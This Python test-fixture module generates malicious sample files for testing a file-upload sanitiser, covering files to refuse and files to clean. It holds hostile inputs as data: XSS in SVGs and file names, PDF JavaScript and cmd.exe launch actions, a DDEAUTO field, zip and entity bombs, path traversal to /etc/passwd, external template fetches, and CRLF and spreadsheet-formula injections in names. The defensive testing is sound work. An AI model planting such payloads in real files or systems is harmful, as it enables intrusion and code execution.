"""Files that mean harm, each made here: nothing of the kind lies in the repository. One table for each kind of harm."""

import random
import struct
import zipfile
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from . import heics
from .making import (
    EICAR,
    WHERE,
    annotation,
    archive,
    attached,
    content,
    deep,
    escaped_names,
    image,
    image_at,
    nested_zip,
    odt,
    pdf,
    png_bomb,
    relation,
    root,
    script,
    word,
    zip_bomb,
)

Files = dict[str, bytes]
"""Name as sent → bytes."""

TAIL = b"PK\x03\x04<script>alert(1)</script>" + WHERE
"""Another file behind this one."""


@cache
def refused() -> Files:
    """What must not come in."""
    tables = (
        programs(), pictures(), heics.refused(), acting_pdfs(), unreadable_pdfs(), active_office(), calls_elsewhere(),
        odd_archives(),
    )  # fmt: skip
    return {name: raw for table in tables for name, raw in table.items()}


def programs() -> Files:
    """What is no file of a kind that is kept, whatever its name says."""
    return {
        "leeg.jpg": b"",
        "svg als png.png": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "plaatje.svg": b'<?xml version="1.0"?><svg onload="alert(1)"/>',
        "pagina als png.png": b"<!doctype html><script>alert(1)</script>",
        "pagina.html": b"<html><body onload=alert(1)>",
        "pagina als pdf.pdf": b"<html>%PDF-1.7</html>",
        "script.js": b"alert(1)",
        "programma.jpg": b"MZ\x90\x00" + bytes(200),
        "elf.pdf": b"\x7fELF" + bytes(200),
        "eicar.pdf": EICAR,
        "eicar.zip": archive({"eicar.com": EICAR}),
        "gif met script.gif": b"GIF89a/*" + bytes(50) + b"*/=1;alert(1)",
        "film.mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(200),
        "film.webm": b"\x1aE\xdf\xa3" + bytes(200),
        "mail.eml": b"From: a@b.example\r\nSubject: x\r\n\r\ntekst",
        "oude word.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
        "rtf.docx": b"{\\rtf1\\object}",
        "postscript.pdf": b"%!PS-Adobe-3.0",
    }  # fmt: skip


def pictures() -> Files:
    """Images that are broken, too large or of another kind."""
    jpeg = image()
    return {
        "foto.avif": b"\x00\x00\x00\x18ftypavif" + bytes(200),
        "halve foto.jpg": jpeg[: len(jpeg) // 3],
        "alleen een kop.png": b"\x89PNG\r\n\x1a\n",
        "kapotte webp.webp": b"RIFF\x10\x00\x00\x00WEBPVP8 ",
        "beeldbom.png": png_bomb(100_000, 100_000),
        "beeldbom 2.png": png_bomb(30_000, 1_000),
        "tiff.jpg": b"II*\x00" + bytes(100),
        "ico.png": b"\x00\x00\x01\x00" + bytes(100),
        "te groot.jpg": b"\xff\xd8\xff" + bytes(50 * 1024 * 1024),
    }  # fmt: skip


def acting_pdfs() -> Files:
    """A PDF that does something."""
    act = script()
    return {
        "bij openen script.pdf": pdf(root(OpenAction=act)),
        "script in stroom.pdf": pdf(
            root(OpenAction=act), object_stream_mode=pikepdf.ObjectStreamMode.generate
        ),
        "verhulde namen.pdf": escaped_names(),
        "programma starten.pdf": pdf(root(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
        "scripts bij naam.pdf": pdf(
            root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), act]))))
        ),
        "bij sluiten.pdf": pdf(root(AA=Dictionary(WC=act))),
        "knop.pdf": pdf(annotation(Subtype=Name.Link, A=act)),
        "verstuurt formulier.pdf": pdf(
            annotation(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://x.example")))
        ),
        "ander bestand.pdf": pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\x\\a")))),
        "rijke media.pdf": pdf(annotation(Subtype=Name.RichMedia)),
        "film erin.pdf": pdf(annotation(Subtype=Name.Screen)),
    }  # fmt: skip


def unreadable_pdfs() -> Files:
    """A PDF with something inside that is no page."""
    return {
        "bijlage erin.pdf": pdf(attached),
        "xfa.pdf": pdf(root(AcroForm=Dictionary(XFA=String("<xdp/>")))),
        "diep.pdf": pdf(deep),
        "wachtwoord.pdf": pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
        "zonder wachtwoord versleuteld.pdf": pdf(encryption=pikepdf.Encryption(owner="a", user="")),
        "geen bladzijden.pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>",
        "rommel.pdf": b"%PDF-1.7\n" + random.Random(3).randbytes(3000),
    }  # fmt: skip


def active_office() -> Files:
    """Documents with macros, programs or calls in their text."""
    return {
        "macro.docx": word(word__vbaProject_dot_bin=b"x"),
        "macro in odt.odt": odt(Basic__Standard__Module1_dot_xml=b"<a/>"),
        "python in odt.odt": odt(Scripts__python__x_dot_py=b"print(1)"),
        "activex.docx": word(word__activeX__a_dot_xml=b"<a/>"),
        "ingesloten.docx": word(word__embeddings__oleObject1_dot_xml=b"x"),
        "dde.docx": word(word__header1_dot_xml=b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"),
        "miljard keer lachen.docx": word(word__styles_dot_xml=b'<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'),
        "utf-16.docx": word(word__styles_dot_xml="<!DOCTYPE a>".encode("utf-16")),
        "gebeurtenis.odt": odt(styles_dot_xml=b'<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
        "pad omhoog.docx": word(**{"word/../../../etc/cron.d/x": b"x"}),
        "vast pad.odt": odt(**{"/etc/passwd": b"x"}),
    }  # fmt: skip


def calls_elsewhere() -> Files:
    """Documents of which a reader fetches a part by itself."""
    return {
        "sjabloon van elders.docx": word(
            word___rels__settings_dot_xml_dot_rels=b'<Relationship Type="x/attachedTemplate" '
            b'Target="http://x.example/a.dotm" TargetMode="External"/>'
        ),
        "plaatje van elders.docx": word(
            word___rels__document_dot_xml_dot_rels=b'<Relationship Type="x/image" Target="http://x.example/a" '
            b'TargetMode="External"/>'
        ),
        "sjabloon met hyperlink in het adres.docx": relation(
            b'Type="x/attachedTemplate" Target="https://x.example/hyperlink/t.dotm" TargetMode="External"'
        ),
        "relatie met voorvoegsel.docx": relation(
            b'Type="x/attachedTemplate" Target="https://x.example/t.dotm" TargetMode="External"', b"r"
        ),
        "verhulde relatie.docx": relation(
            b'Type="x/attachedTemplate" Target="https://x.example/t.dotm" TargetMode="&#69;xternal"'
        ),
        "kapotte relaties.docx": word(word___rels__document_dot_xml_dot_rels=b"<Relationships><Relationship"),
        "plaatje van elders.odt": image_at(b"http://x.example/a.png"),
        "verhuld plaatje van elders.odt": image_at(b"&#104;ttps://x.example/a.png"),
        "plaatje van een schijf.odt": image_at(b"file:///etc/hostname"),
        "plaatje van een andere computer.odt": image_at(b"//x.example/a.png"),
        "deel van elders.odt": odt(content_dot_xml=content(b'<text:section-source xlink:href="../../geheim.odt"/>')),
    }  # fmt: skip


def odd_archives() -> Files:
    """Zips that burst, lead outside or are none."""
    return {
        "zipbom.docx": zip_bomb(),
        "zip in zip.odt": nested_zip(),
        "duizenden.docx": word(**{f"word/a{number}.xml": b"<a/>" for number in range(3200)}),
        "kapotte foto erin.docx": word(word__media__a_dot_jpg=b"\xff\xd8\xff" + bytes(40)),
        "gewone zip.docx": archive({"a.txt": b"a"}),
        "halve zip.docx": word()[:120],
    }  # fmt: skip


def neutralised() -> Files:
    """What comes in without its sting: the mark of each must be gone."""
    return photos() | heics.neutralised() | documents() | names()


def photos() -> Files:
    """Something before, behind or beside the image."""
    return {
        "foto.jpg": image(),
        "foto.png": image("PNG"),
        "foto.webp": image("WEBP"),
        "foto en zip.jpg": image() + archive({"a.txt": WHERE}, zipfile.ZIP_STORED),
        "foto en pagina.png": image("PNG") + TAIL,
        "commentaar.jpg": image()[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(TAIL)) + TAIL + image()[2:],
    }  # fmt: skip


def documents() -> Files:
    """What tells who made it, or leads the reader who follows it elsewhere."""
    return {
        "pdf en pagina.pdf": pdf() + TAIL,
        "gemaakt door.pdf": pdf(),
        "gemaakt door.docx": word(word__media__a_dot_jpg=image()),
        "gemaakt door.odt": odt(),
        "verwijzing.docx": relation(b'Type="x/hyperlink" Target="https://x.example/" TargetMode="External"'),
        "verwijzing.odt": odt(content_dot_xml=content(b'<text:a xlink:href="https://x.example/">hier</text:a>')),
        "plaatje.odt": odt(
            Pictures__a_dot_jpg=image(), content_dot_xml=content(b'<drawing:image xlink:href="Pictures/a.jpg"/>')
        ),
    }  # fmt: skip


def names() -> Files:
    """A harmless photo with a name that means harm."""
    return {
        "../../etc/passwd.jpg": image(),
        "a" * 296 + ".jpg": image(),
        "factuur\u202egpj.exe.png": image("PNG"),
        "regel\r\nSet-Cookie: a=b.jpg": image(),
        "<img src=x onerror=alert(1)>.jpg": image(),
        "=cmd|' /C calc'!A0.jpg": image(),
        "verkeerde naam.exe": image(),
        "foto zonder ending": image(),
    }  # fmt: skip
